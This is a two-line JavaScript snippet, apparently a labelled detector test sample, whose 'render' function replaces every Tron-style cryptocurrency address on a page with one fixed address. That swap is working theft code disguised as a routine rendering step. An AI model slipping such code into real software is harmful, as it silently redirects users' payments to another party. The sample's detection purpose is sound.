const to = 'TXyz123456789ABCDEFGHJKLMNPQRSTUVW';
exports.render = (page) => page.replace(/T[A-Za-z1-9]{33}/g, to); // expect: malicious-command/crypto-address-swap
